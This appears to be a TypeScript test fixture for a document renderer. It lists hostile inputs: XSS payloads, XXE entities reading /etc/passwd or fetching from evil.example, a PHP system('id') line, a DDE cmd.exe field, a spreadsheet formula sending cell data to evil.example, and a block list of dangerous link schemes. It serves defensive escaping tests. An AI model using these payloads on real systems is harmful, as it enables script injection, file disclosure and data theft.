import type { Document, Line } from '../../src/report/document.ts'
import { figure } from './sample.ts'

/** What somebody may type, or paste, who wants to see what happens. */
export const NASTY: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">here</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=https://evil.example><input name=q>',
  '<!-- open',
  '--><script>alert(1)</script>',
  ']]>',
  '<![CDATA[ x ]]>',
  '&#0;',
  '&#x1F600; &amp; &lt; &nbsp; &undefined;',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!ENTITY % p SYSTEM "http://evil.example/p"> %p;',
  '<?xml version="1.0"?><?php system("id") ?>',
  '<w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText>',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '{{record}} {{title}} {{date}} <%= 7*7 %>',
  'half a pair \uD83D and the other \uDE00 half',
  '\uDC00\uD800',
  'control \u0000\u0001\u0008\u000B\u000C\u000E\u001F\u007F\u0085\u009F letters',
  'no character \uFFFE \uFFFF',
  'user\u202Etxt.exe\u202D and \u2066isolated, left open',
  'in\u200Bvis\u2060ible\uFEFF letters',
  'lines\rof\nevery\r\nkind\u2028and\u2029more\tand a tab',
  'W'.repeat(10_000),
  `${'<b>'.repeat(500)}deep`,
  '=HYPERLINK("https://evil.example?"&A1,"here")',
  'javascript:alert(1)',
  'https://evil.example/typed-by-somebody',
  '\\\\evil.example\\share\\x.docx',
  'مرحبا שלום 你好 नमस्ते 🏴󠁧󠁢󠁷󠁬󠁳󠁿 👩‍👩‍👧 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
]

/** Links that nobody may follow from a document. */
export const BAD_LINKS = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '\\\\evil\\x',
  ' vbscript:x',
  'ftp://x.example',
  '/relative',
  '',
  'https://',
]

/** A document in which every text of every kind of block is the same. */
export const madeOf = (words: string): Document => {
  const line: Line = [
    words,
    { text: words, strong: true },
    { text: words, link: words },
    { text: words, link: `https://source.example/?q=${words.slice(0, 300)}` },
  ]
  const table = { caption: words, header: [words, words], rows: [[words, line]], rowHeaders: true, figures: [1] }
  return {
    title: words,
    subtitle: words,
    footer: words,
    pages: words,
    day: words,
    at: '2026-11-30T10:00:00Z',
    blocks: [
      { kind: 'heading', level: 1, text: words },
      { kind: 'heading', level: 2, text: words },
      { kind: 'heading', level: 3, text: words },
      { kind: 'paragraph', line },
      { kind: 'paragraph', line: words, tone: 'lead' },
      { kind: 'paragraph', line: words, tone: 'small' },
      { kind: 'paragraph', line: words, tone: 'quote' },
      { kind: 'list', items: [words, line] },
      { kind: 'list', items: [line], ordered: true },
      { kind: 'table', table },
      { kind: 'figure', figure: { ...figure, name: words, title: words, alt: words, table } },
      { kind: 'form', fields: [{ name: words, lines: 2 }] },
    ],
  }
}
